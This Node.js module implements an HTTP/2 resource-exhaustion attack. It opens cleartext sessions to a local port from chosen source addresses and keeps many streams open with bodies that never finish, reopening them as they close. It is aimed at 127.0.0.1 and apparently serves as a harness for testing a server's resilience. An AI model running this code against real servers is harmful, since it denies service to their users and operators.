// HTTP/2 without TLS, by prior knowledge, with streams that are held and opened again.

import { connect as connectHttp2 } from 'node:http2';
import { connect } from 'node:net';

const REOPEN_MS = 50;

/** A session from an address. It ends with the attack. */
export function openSession(attack, { port, from }) {
  const session = connectHttp2(`http://127.0.0.1:${port}`, {
    createConnection: () => connect({ host: '127.0.0.1', port, localAddress: from, noDelay: true }),
  });
  session.on('error', () => {});
  return attack.hold(session);
}

/** Keeps a session until the attack is over, with so many streams on it: `headers` and the beginning of a body that never ends.
 * Counts `opened` and `closed` sessions, `streams`, and answers by status. */
export async function keepStreams(attack, { port, from, streams, headers, body }) {
  while (!attack.over) {
    const session = openSession(attack, { port, from });
    attack.count('opened');
    const closed = new Promise((done) => session.once('close', done));
    const open = () => {
      if (attack.over || session.closed || session.destroyed) {
        return;
      }
      const stream = session.request(headers, { endStream: body === undefined });
      attack.count('streams');
      stream.on('error', () => {});
      stream.on('response', ({ ':status': status }) => attack.count(`answered ${status}`));
      stream.on('close', () => setTimeout(open, REOPEN_MS));
      stream.resume();
      if (body !== undefined) {
        stream.write(body);
      }
    };
    session.once('connect', () => {
      for (let number = 0; number < streams; number += 1) {
        open();
      }
    });
    await closed;
    await attack.pause(REOPEN_MS);
  }
}
